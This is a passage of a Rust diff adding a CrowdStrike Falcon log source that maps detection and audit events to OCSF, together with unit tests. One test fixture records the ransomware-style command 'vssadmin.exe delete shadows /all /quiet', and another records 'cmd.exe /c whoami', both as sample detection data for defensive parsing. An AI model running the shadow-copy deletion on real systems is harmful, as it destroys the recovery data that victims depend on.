+            push(get("Tactic"), get("TacticID"), get("Technique"), get("TechniqueID"));
+        }
+        return attacks;
+    }
+    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
+    push(
+        text("Tactic").or_else(|| text("Tactics")),
+        text("TacticId").or_else(|| text("TacticIds")),
+        text("Technique").or_else(|| text("Techniques")),
+        text("TechniqueId").or_else(|| text("TechniqueIds")),
+    );
+    attacks
+}
+
+/// Builds the evidence of a detection that names a process: the process, its file and
+/// hashes, its parent and user.
+fn process_evidence(fields: &Map<String, Value>) -> Option<Map<String, Value>> {
+    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
+    let file = text("FileName")?;
+    let mut evidence = Map::new();
+    let mut set = |path: &str, value: Value| ocsf::set_path(&mut evidence, path, value);
+    set("process.name", file.into());
+    set("process.file.name", file.into());
+    set("process.file.type_id", 1.into());
+    set("process.file.type", "Regular File".into());
+    if let Some(folder) = text("FilePath") {
+        let path = full_path(folder, file);
+        set("process.path", path.as_str().into());
+        set("process.file.path", path.into());
+    }
+    if let Some(command) = text("CommandLine") {
+        set("process.cmd_line", command.into());
+    }
+    if let Some(pid) = json_support::integer(fields, "event.ProcessId") {
+        set("process.pid", pid.into());
+    }
+    if let Some(start) = json_support::epoch_time(fields, "event.ProcessStartTime") {
+        set("process.created_time", start.millis().into());
+    }
+
+    let hashes: Vec<Value> = [("SHA256String", 3, "SHA-256"), ("MD5String", 1, "MD5"), ("SHA1String", 2, "SHA-1")]
+        .iter()
+        .filter_map(|(name, id, algorithm)| text(name).map(|value| serde_json::json!({ "algorithm_id": id, "algorithm": algorithm, "value": value })))
+        .collect();
+    if !hashes.is_empty() {
+        set("process.file.hashes", Value::Array(hashes));
+    }
+
+    if let Some(parent) = text("ParentImageFileName") {
+        set("process.parent_process.name", parent.rsplit(['\\', '/']).next().unwrap_or(parent).into());
+        if let Some(command) = text("ParentCommandLine") {
+            set("process.parent_process.cmd_line", command.into());
+        }
+        if let Some(pid) = json_support::integer(fields, "event.ParentProcessId") {
+            set("process.parent_process.pid", pid.into());
+        }
+    }
+    if let Some(user) = text("UserName") {
+        set("process.user.name", user.into());
+        set("user.name", user.into());
+    }
+    Some(evidence)
+}
+
+/// Maps an audit event: console sign-ins to Authentication, every other operation to API
+/// Activity.
+fn audit_record(fields: &Map<String, Value>, time: Timestamp, auth: bool) -> Map<String, Value> {
+    let text = |name: &str| json_support::text(fields, &format!("event.{name}"));
+    let operation = text("OperationName").unwrap_or("unknown");
+    let time = json_support::epoch_time(fields, "event.UTCTimestamp").unwrap_or(time);
+    let success = json_support::boolean(fields, "event.Success");
+    let sign_in = auth && matches!(operation, "userAuthenticate" | "twoFactorAuthenticate" | "saml2Assert" | "userLogout" | "userAuthenticateSso");
+    let mut record = if sign_in {
+        let activity = if operation == "userLogout" { 2 } else { 1 };
+        let mut record = RecordBuilder::new(class::AUTHENTICATION, activity, time, &META);
+        record.set("user.name", text("UserId").unwrap_or("unknown"));
+        if let Some(email) = text("UserId").filter(|u| u.contains('@')) {
+            record.set("user.email_addr", email);
+        }
+        record.set("is_mfa", operation == "twoFactorAuthenticate");
+        if operation == "saml2Assert" {
+            record.set("auth_protocol", "SAML").set("auth_protocol_id", 5);
+        }
+        record.set_str("service.name", text("ServiceName"));
+        record
+    } else {
+        let verb = operation.split(['_', ' ']).next().unwrap_or("").to_ascii_lowercase();
+        let activity = match verb.as_str() {
+            "create" | "add" => 1,
+            "get" | "list" | "read" | "query" => 2,
+            "update" | "detection" | "quarantined" | "set" | "assign" | "modify" => 3,
+            "delete" | "remove" | "revoke" => 4,
+            _ => 99,
+        };
+        let mut record = RecordBuilder::new(class::API_ACTIVITY, activity, time, &META);
+        match text("UserId") {
+            Some(user) => record.set("actor.user.name", user),
+            None => record.set("actor.app_name", "Falcon"),
+        };
+        record.set("api.operation", operation);
+        record.set_str("api.service.name", text("ServiceName"));
+        if let Some(values) = fields.get("event.AuditKeyValues").and_then(Value::as_array) {
+            let data: Map<String, Value> = values
+                .iter()
+                .filter_map(|pair| Some((pair.get("Key")?.as_str()?.to_string(), pair.get("ValueString").cloned().unwrap_or(Value::Null))))
+                .collect();
+            if !data.is_empty() {
+                record.set("api.request.uid", json_support::integer(fields, "metadata.offset").map(|o| o.to_string()).unwrap_or_else(|| "0".into()));
+                record.set("api.request.data", Value::Object(data));
+            }
+        }
+        record
+    };
+    record.set_str("metadata.event_code", json_support::text(fields, "metadata.eventType"));
+    record.set_str("metadata.tenant_uid", json_support::text(fields, "metadata.customerIDString"));
+    match text("UserIp").filter(|ip| ip.parse::<std::net::IpAddr>().is_ok()) {
+        Some(ip) => record.set("src_endpoint.ip", ip),
+        None => record.set("src_endpoint.name", "unknown"),
+    };
+    match success {
+        Some(true) | None => record.status(ocsf::status::SUCCESS).set("status", "Success"),
+        Some(false) => record.status(ocsf::status::FAILURE).set("status", "Failure").severity(ocsf::severity::LOW),
+    };
+    record.build()
+}
+
+/// Maps CEF from the SIEM Connector: detections through the streaming-event mapping, audit
+/// events by their `cat` operation.
+fn to_ocsf_cef(fields: &Map<String, Value>) -> Result<Map<String, Value>, ParseError> {
+    let text = |name: &str| json_support::text(fields, name);
+    let time = json_support::epoch_time(fields, "rt")
+        .or_else(|| text("rt").and_then(|t| crate::timestamp::parse_rfc3339(t).ok()))
+        .ok_or_else(|| ParseError::new(0, "the CEF event has no rt time"))?;
+    let class_id = text("deviceEventClassId").unwrap_or("DetectionSummaryEvent");
+    let event = cef_as_stream_event(fields, class_id);
+    if class_id == "DetectionSummaryEvent" {
+        Ok(detection_record(&event, time))
+    } else {
+        Ok(audit_record(&event, time, class_id == "AuthActivityAuditEvent"))
+    }
+}
+
+/// Renames the connector's CEF keys to the streaming event's fields (`shost` to
+/// `event.ComputerName`, the `CommandLine` custom string to `event.CommandLine`, ...), so one
+/// mapping serves both formats.
+fn cef_as_stream_event(fields: &Map<String, Value>, class_id: &str) -> Map<String, Value> {
+    const DETECTION_KEYS: &[(&str, &str)] = &[
+        ("externalID", "SensorId"),
+        ("shost", "ComputerName"),
+        ("suser", "UserName"),
+        ("msg", "DetectDescription"),
+        ("fname", "FileName"),
+        ("filePath", "FilePath"),
+        ("fileHash", "SHA256String"),
+        ("sntdom", "MachineDomain"),
+        ("src", "LocalIP"),
+        ("smac", "MACAddress"),
+        ("cat", "Tactic"),
+        ("act", "Technique"),
+        ("reason", "Objective"),
+        ("outcome", "PatternDispositionValue"),
+        ("CSMTRPatternDisposition", "PatternDispositionDescription"),
+        ("name", "DetectName"),
+        ("severity", "Severity"),
+    ];
+    // Audit events: cat is the operation, outcome the success, suser the user.
+    const AUDIT_KEYS: &[(&str, &str)] = &[("cat", "OperationName"), ("suser", "UserId"), ("sourceTranslatedAddress", "UserIp"), ("src", "UserIp"), ("cs1", "ServiceName")];
+    const CUSTOM_LABELS: &[&str] = &["CommandLine", "FalconHostLink", "ProcessId", "ParentProcessId"];
+
+    let mut event = Map::new();
+    event.insert("metadata.eventType".into(), class_id.into());
+    if let Some(offset) = custom_value(fields, "Offset") {
+        event.insert("metadata.offset".into(), offset);
+    }
+    let keys = if class_id == "DetectionSummaryEvent" { DETECTION_KEYS } else { AUDIT_KEYS };
+    for (from, to) in keys {
+        if let Some(value) = fields.get(*from).filter(|v| !v.is_null()) {
+            event.entry(format!("event.{to}")).or_insert_with(|| value.clone());
+        }
+    }
+    for label in CUSTOM_LABELS {
+        if let Some(value) = custom_value(fields, label) {
+            event.insert(format!("event.{label}"), value);
+        }
+    }
+    if class_id != "DetectionSummaryEvent" {
+        if let Some(outcome) = json_support::text(fields, "outcome") {
+            let success = outcome.eq_ignore_ascii_case("true") || outcome.eq_ignore_ascii_case("success");
+            event.insert("event.Success".into(), Value::Bool(success));
+        }
+    }
+    event
+}
+
+/// Returns the value of the custom CEF field labelled `label`.
+fn custom_value(fields: &Map<String, Value>, label: &str) -> Option<Value> {
+    ["cs1", "cs2", "cs3", "cs4", "cs5", "cs6", "cn1", "cn2", "cn3"]
+        .iter()
+        .find(|key| json_support::text(fields, &format!("{key}Label")).is_some_and(|l| l.eq_ignore_ascii_case(label)))
+        .and_then(|key| fields.get(*key).cloned())
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::parse::parse_str;
+    use crate::sources::testing;
+
+    #[test]
+    fn round_trip_every_variant() {
+        testing::assert_round_trip(&CrowdstrikeFalcon, 0..200);
+    }
+
+    const DETECTION_EVENT: &str = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":88213,"eventType":"DetectionSummaryEvent","eventCreationTime":1767606000000,"version":"1.0"},"event":{"ProcessStartTime":1767605990,"ProcessEndTime":1767606000,"ProcessId":384017201123,"ParentProcessId":384011100456,"ComputerName":"WS-10077","UserName":"yusuf.yilmaz","DetectName":"Process Terminated","DetectDescription":"A process tried to delete volume shadow copies.","Severity":5,"SeverityName":"Critical","FileName":"vssadmin.exe","FilePath":"\\Device\\HarddiskVolume3\\Windows\\System32","CommandLine":"vssadmin.exe delete shadows /all /quiet","SHA256String":"1f2e3d4c5b6a79881f2e3d4c5b6a79881f2e3d4c5b6a79881f2e3d4c5b6a7988","MD5String":"0a1b2c3d4e5f60718293a4b5c6d7e8f9","MachineDomain":"ACME","FalconHostLink":"https://falcon.crowdstrike.com/activity/detections/detail/9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b/41234567890?_cid=5c1f0e9d8c7b6a594837261504f3e2d1","SensorId":"9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b","DetectId":"ldt:9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b:41234567890","LocalIP":"10.40.1.77","MACAddress":"02-1a-2b-3c-4d-5e","Tactic":"Impact","Technique":"Inhibit System Recovery","Objective":"Keep Access","PatternDispositionDescription":"Prevention, process killed.","PatternDispositionValue":16,"PatternDispositionFlags":{"Indicator":false,"Detect":false,"KillProcess":true,"ProcessBlocked":false},"ParentImageFileName":"\\Device\\HarddiskVolume3\\Windows\\System32\\cmd.exe","ParentCommandLine":"cmd.exe /c vssadmin.exe delete shadows /all /quiet"}}"#;
+    const AUTH_EVENT: &str = r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":88214,"eventType":"AuthActivityAuditEvent","eventCreationTime":1767606060,"version":"1.0"},"event":{"UserId":"ingrid.larsen@acme.example","UserIp":"198.51.100.61","OperationName":"userAuthenticate","ServiceName":"CrowdStrike Authentication","Success":false,"UTCTimestamp":1767606059,"AuditKeyValues":[{"Key":"target_name","ValueString":"ingrid.larsen@acme.example"}]}}"#;
+    const CEF_AUTH: &str = "<14>Jan  5 09:40:00 siem-connector CEF:0|CrowdStrike|FalconHost|1.0|AuthActivityAuditEvent|Auth Activity Audit Event|2|suser=ingrid.larsen@acme.example cat=twoFactorAuthenticate outcome=true sourceTranslatedAddress=198.51.100.61 cs1Label=ServiceName cs1=CrowdStrike Authentication cn3Label=Offset cn3=88215 rt=1767606000000";
+
+    /// Hand-written events: (intent, text, class_uid, variant).
+    fn samples() -> Vec<(&'static str, String, u32, Option<&'static str>)> {
+        vec![
+            ("detection with a killed process", DETECTION_EVENT.to_string(), 2004, Some("DetectionSummaryEvent")),
+            ("failed console sign-in with eventCreationTime in seconds", AUTH_EVENT.to_string(), 3002, Some("AuthActivityAuditEvent")),
+            (
+                "detection update by an analyst",
+                r#"{"metadata":{"customerIDString":"5c1f0e9d8c7b6a594837261504f3e2d1","offset":88216,"eventType":"UserActivityAuditEvent","eventCreationTime":1767606100000,"version":"1.0"},"event":{"UserId":"ingrid.larsen@acme.example","UserIp":"","OperationName":"detection_update","ServiceName":"detections","UTCTimestamp":1767606100,"AuditKeyValues":[{"Key":"detection_id","ValueString":"ldt:9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b:41234567890"},{"Key":"new_state","ValueString":"true_positive"}]}}"#.to_string(),
+                6003,
+                Some("UserActivityAuditEvent"),
+            ),
+            (
+                "streaming event inside a HEC envelope",
+                format!(r#"{{"time":1767606000,"host":"siem-connector","sourcetype":"crowdstrike:falcon","event":{DETECTION_EVENT}}}"#),
+                2004,
+                Some("DetectionSummaryEvent"),
+            ),
+            ("SIEM Connector CEF sign-in behind a syslog header", CEF_AUTH.to_string(), 3002, None),
+            (
+                "SIEM Connector CEF detection",
+                "CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|Malicious Document|4|externalID=9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b cn2Label=ProcessId cn2=384017201123 shost=WS-10077 suser=yusuf.yilmaz msg=An Office application started a command shell. fname=cmd.exe filePath=\\\\Device\\\\HarddiskVolume3\\\\Windows\\\\System32 cs5Label=CommandLine cs5=cmd.exe /c whoami cs6Label=FalconHostLink cs6=https://falcon.crowdstrike.com/activity/detections/detail/9e8d/1 rt=1767606000000 src=10.40.1.77 cat=Execution act=User Execution reason=Follow Through outcome=0 CSMTRPatternDisposition=Detection, standard detection.".to_string(),
+                2004,
+                Some("cef_detection"),
+            ),
+        ]
+    }
+
+    #[test]
+    fn hand_written_events_parse() {
+        for (name, text, class_uid, variant) in samples() {
+            let outcomes = parse_str("crowdstrike_falcon", &text, ParseOptions::default()).unwrap();
+            assert_eq!(outcomes.len(), 1, "{name}");
+            let record = outcomes[0].as_ref().unwrap_or_else(|e| panic!("{name}: {e}"));
+            assert_eq!(record.ocsf["class_uid"], class_uid, "{name}");
+            assert_eq!(record.parsed.variant, variant, "{name}");
+            testing::assert_valid_ocsf(&record.ocsf, name);
+        }
+    }
+
+    #[test]
+    fn detection_maps_process_and_disposition() {
+        let outcomes = parse_str("crowdstrike_falcon", DETECTION_EVENT, ParseOptions::default()).unwrap();
+        let record = &outcomes[0].as_ref().unwrap().ocsf;
+        assert_eq!(record["severity_id"], 5);
+        assert_eq!(record["disposition_id"], 2);
+        assert_eq!(record["finding_info"]["uid"], "ldt:9e8d7c6b5a4f3e2d1c0b9a8f7e6d5c4b:41234567890");
+        assert_eq!(record["finding_info"]["attacks"][0]["tactic"]["name"], "Impact");
+        assert_eq!(record["device"]["hostname"], "WS-10077");
+        assert_eq!(record["device"]["mac"], "02:1a:2b:3c:4d:5e");
+        let process = &record["evidences"][0]["process"];
+        assert_eq!(process["path"], "\\Device\\HarddiskVolume3\\Windows\\System32\\vssadmin.exe");
+        assert_eq!(process["parent_process"]["name"], "cmd.exe");
+        assert_eq!(process["file"]["hashes"][0]["algorithm_id"], 3);
+    }
+
+    #[test]
+    fn failed_sign_in_maps_to_failure() {
+        let outcomes = parse_str("crowdstrike_falcon", AUTH_EVENT, ParseOptions::default()).unwrap();
+        let record = &outcomes[0].as_ref().unwrap().ocsf;
+        assert_eq!(record["status_id"], 2);
+        assert_eq!(record["user"]["name"], "ingrid.larsen@acme.example");
+        assert_eq!(record["src_endpoint"]["ip"], "198.51.100.61");
+        assert_eq!(record["time"], 1_767_606_059_000_i64);
+    }
+
+    #[test]
+    fn cef_sign_in_reads_operation_and_outcome() {
+        let outcomes = parse_str("crowdstrike_falcon", CEF_AUTH, ParseOptions::default()).unwrap();
+        let record = &outcomes[0].as_ref().unwrap().ocsf;
+        assert_eq!(record["is_mfa"], true);
+        assert_eq!(record["status_id"], 1);
+        assert_eq!(record["src_endpoint"]["ip"], "198.51.100.61");
+    }
+
+    #[test]
+    fn malformed_input_is_rejected() {
+        let cases = [
+            ("plain text", "DetectionSummaryEvent on WS-10077"),
+            ("truncated JSON", r#"{"metadata":{"eventType":"DetectionSummaryEvent"},"event":{"#),
+            ("no metadata", r#"{"event":{"ComputerName":"WS-10077"}}"#),
+            ("event is not an object", r#"{"metadata":{"eventType":"DetectionSummaryEvent"},"event":"x"}"#),
+            ("Threat Graph vertex", r#"{"metadata":{"eventType":"Vertex"},"event":{"id":"aid:1"}}"#),
+            ("unknown event type", r#"{"metadata":{"eventType":"FutureEvent","eventCreationTime":1767606000000},"event":{}}"#),
+            ("CEF from another vendor", "CEF:0|Acme|Widget|1.0|1|x|3|src=10.0.0.1"),
+            ("CEF detection without time", "CEF:0|CrowdStrike|FalconHost|1.0|DetectionSummaryEvent|x|3|shost=a"),
+        ];
+        for (name, text) in cases {
+            let outcomes = parse_str("crowdstrike_falcon", text, ParseOptions::default()).unwrap();
+            assert!(!outcomes.is_empty(), "{name}: no outcome");
+            assert!(outcomes.iter().all(Result::is_err), "{name}: accepted");
+        }
+    }
+
+    #[test]
+    fn corpus_samples_parse() {
+        let Some(samples) = testing::corpus_samples(&["sekoia/CrowdStrike/crowdstrike_falcon"], |_| true) else {
+            println!("corpus not found; skipped");
+            return;
+        };
+        let outcomes = testing::corpus_outcomes("crowdstrike_falcon", &samples);
+        // Threat Graph vertices (device, module, user) and scheduled report notifications are
+        // not Event Streams events this source maps; every other sample must parse.
+        for outcome in &outcomes {
+            let unmapped = ["device_event", "module_event", "user_event", "schedules_report"].iter().any(|n| outcome.name.contains(n));
+            assert_eq!(outcome.result.is_ok(), !unmapped, "{}: {:?}", outcome.name, outcome.result.as_ref().err());
+        }
+    }
+}
